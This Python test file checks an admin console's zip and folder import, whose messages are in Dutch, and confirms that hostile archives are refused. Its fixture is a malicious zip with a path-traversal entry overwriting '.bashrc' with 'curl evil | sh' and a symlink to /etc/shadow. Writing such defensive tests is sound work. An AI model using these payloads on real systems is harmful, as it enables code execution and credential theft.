"""The console's drive import over HTTP: a hostile zip is refused with its report on the page, a
zip over the upload limit is refused before anything runs and leaves no file behind, a folder is
taken only from under KRING_IMPORT_ROOT, and the summary links what was imported."""

from __future__ import annotations

import asyncio
import io
import os
import stat
import zipfile
from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import Any

import pytest
from sqlmodel.ext.asyncio.session import AsyncSession

from models import Role
from server.pages import admin_import
from tests.support import BASE_URL, Visitor, make_user

PAGE = "/beheer/import"
UPLOAD_LIMIT = 16_384


@pytest.fixture
def settings_overrides(tmp_path: Path) -> dict[str, Any]:
    root = tmp_path / "schijven"
    (root / "Team Noord" / "02 Werkinstructies").mkdir(parents=True)
    (root / "Team Noord" / "02 Werkinstructies" / "Sleutelbeheer.txt").write_text("De sleutel hangt achter de balie.")
    (root / "Team Noord" / "~$Sleutelbeheer.txt").write_text("vergrendeld")
    return {"limit_import_bytes": UPLOAD_LIMIT, "import_root": str(root)}


def _files_in(folder: Path) -> list[str]:
    return sorted(os.listdir(folder)) if folder.exists() else []


async def _imports_done() -> None:
    """Wait for the imports this worker runs in the background."""
    await asyncio.gather(*admin_import._running)


async def _upload(admin: Visitor, name: str, data: bytes) -> str:
    """Post the zip as the page's form does; the page it lands on, with its message."""
    token = await admin.form_token(PAGE)
    sent = await admin.http.post(
        PAGE,
        data={"csrf_token": token},
        files={"file": (name, data, "application/zip")},
        headers={"Origin": BASE_URL, "Referer": f"{BASE_URL}{PAGE}"},
    )
    assert sent.status_code == 303
    return (await admin.get(sent.headers["location"])).text


async def test_the_console_refuses_a_hostile_or_oversized_zip_and_imports_a_folder_under_its_root(
    db: AsyncSession, new_visitor: Callable[[], Awaitable[Visitor]], tmp_path: Path
) -> None:
    admin = await new_visitor()
    assert (await admin.sign_in(await make_user(db, "Ada Admin", role=Role.ADMIN))).status_code == 200
    work_dir = tmp_path / "var" / "imports"

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("schijf/../../.bashrc", "curl evil | sh")
        link = zipfile.ZipInfo("schijf/link")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, "/etc/shadow")
    page = await _upload(admin, "kwaadaardig.zip", buffer.getvalue())
    assert "De import is begonnen." in page
    await _imports_done()
    page = (await admin.get(PAGE)).text
    assert "Het zipbestand is geweigerd; er is niets uit geïmporteerd." in page
    assert "schijf/../../.bashrc" in page
    assert "een pad dat buiten de map verwijst (..)" in page
    assert "een symbolische koppeling" in page

    page = await _upload(admin, "te groot.zip", os.urandom(UPLOAD_LIMIT + 1))
    assert "Het zipbestand is groter dan een import mag zijn." in page
    assert admin_import._running == set()
    assert _files_in(work_dir) == []

    refused = await admin.submit(f"{PAGE}/folder", {"folder": "../"}, page=PAGE)
    assert refused.status_code == 303
    assert "Kies een map binnen de importmap." in (await admin.get(refused.headers["location"])).text

    started = await admin.submit(f"{PAGE}/folder", {"folder": "Team Noord"}, page=PAGE)
    assert started.status_code == 303
    await _imports_done()
    page = (await admin.get(PAGE)).text
    assert 'data-count="imported">1<' in page
    assert 'data-count="skipped">1<' in page
    assert '<a href="/knowledge/documents/' in page
    assert "02 Werkinstructies/Sleutelbeheer.txt" in page
    assert "Office-vergrendelingsbestand" in page
    assert _files_in(work_dir) == []
